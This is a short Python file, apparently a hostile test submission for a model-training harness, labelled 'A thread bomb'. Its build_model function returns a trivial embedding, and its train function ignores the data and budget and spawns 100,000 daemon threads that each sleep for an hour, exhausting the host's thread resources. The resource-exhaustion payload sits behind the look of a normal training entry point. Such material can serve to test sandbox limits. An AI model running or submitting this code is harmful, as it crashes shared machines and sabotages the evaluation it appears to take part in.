"""A thread bomb."""

import threading
import time

from torch import nn


def build_model(vocab_size, context):
    return nn.Embedding(vocab_size, vocab_size)


def train(model, batches, budget):
    threading.stack_size(262144)
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
